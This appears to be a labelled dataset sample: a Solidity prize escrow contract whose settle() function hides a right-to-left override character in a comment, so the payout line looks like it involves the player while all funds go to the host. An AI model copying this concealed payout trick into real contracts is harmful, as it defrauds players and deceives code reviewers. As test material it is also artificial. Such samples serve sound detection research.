// Corpus: a prize escrow (Solidity 0.8) with a right-to-left override character
// (U+202E) hidden in a comment on the payout line. Editors and block explorers render
// the rest of that line reversed, so a reviewer reading settle() sees a call that
// appears to involve the player, while the compiler pays the whole pot to the host.
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.4;

contract PrizeEscrow {
    address payable public host;
    mapping(address => uint256) public entries;
    uint256 public pot;
    address public lastWinner;

    event Entered(address indexed player, uint256 amount);
    event Paid(address indexed to, uint256 amount);

    constructor() {
        host = payable(msg.sender);
    }

    function enter() external payable {
        require(msg.value > 0, "no stake");
        entries[msg.sender] += msg.value;
        pot += msg.value;
        emit Entered(msg.sender, msg.value);
    }

    function settle(address payable player) external {
        require(msg.sender == host, "host only");
        require(entries[player] > 0, "not a player");
        uint256 amount = pot;
        pot = 0;
        lastWinner = player;
        // vuln: other
        _payout(host, /*‮ player, tnuoma */ amount);
    }

    function _payout(address payable to, uint256 amount) private {
        (bool ok, ) = to.call{value: amount}("");
        require(ok, "payout failed");
        emit Paid(to, amount);
    }
}
